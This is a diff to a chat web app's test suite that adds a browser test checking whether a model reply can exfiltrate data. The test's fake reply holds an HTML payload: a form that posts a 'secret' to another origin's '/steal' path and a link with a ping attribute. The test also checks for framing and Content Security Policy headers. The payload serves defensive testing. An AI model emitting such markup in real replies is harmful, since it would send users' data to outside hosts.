@@ -19,6 +19,7 @@ from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 from urllib.parse import urlparse
 
+import httpx
 import pytest
 
 import preflight
@@ -519,3 +520,56 @@ def test_a_reply_cannot_make_the_browser_contact_another_origin(chat: Chat, serv
         other.server_close()
     assert hits == []
     assert any("Content Security Policy" in error for error in chat.console_errors)  # the page refused them
+
+
+def test_a_reply_cannot_send_a_form_or_a_ping_to_another_origin_and_no_other_origin_frames_the_page(
+    chat: Chat, server: FakeOpenAI, app_url: str
+):
+    hits: list[str] = []
+
+    class Other(http.server.BaseHTTPRequestHandler):
+        def _record(self) -> None:
+            hits.append(f"{self.command} {self.path}")
+            body = f"<iframe id=app src='{app_url}' width=800 height=600></iframe>".encode()
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(body)
+
+        do_GET = do_POST = _record
+
+        def log_message(self, *args) -> None:
+            pass
+
+    other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Other)  # another origin, on loopback
+    threading.Thread(target=other.serve_forever, daemon=True).start()
+    try:
+        origin = f"http://127.0.0.1:{other.server_address[1]}"
+        server.enqueue(
+            Reply(
+                text=f"<form action='{origin}/steal' method='post'><input name='c' value='secret'>"
+                f"<button>Send it</button></form> <a href='#here' ping='{origin}/ping'>a link</a>"
+            )
+        )
+        chat.send("Show me")
+        expect(chat.bots.last).to_contain_text("a link")
+        chat.wait_for_reply()
+        for button in chat.bots.last.get_by_role("button", name="Send it").all():  # the form survives the sanitizer
+            button.click()
+        chat.bots.last.get_by_text("a link").click()
+        chat.page.wait_for_timeout(1000)
+        assert hits == [], hits  # neither the form's POST nor the ping left the page
+        assert chat.page.url.startswith(app_url)
+
+        framing = chat.context.new_page()  # a page of another origin that frames the app: refused
+        framing.goto(f"{origin}/frame")
+        framing.wait_for_timeout(2000)
+        [framed] = [frame for frame in framing.frames if frame is not framing.main_frame]
+        assert not framed.url.startswith(app_url) or framed.locator("textarea").count() == 0
+        framing.close()
+    finally:
+        other.shutdown()
+        other.server_close()
+    headers = httpx.get(app_url).headers
+    assert "frame-ancestors 'self'" in headers["content-security-policy"]
+    assert "form-action 'self'" in headers["content-security-policy"]
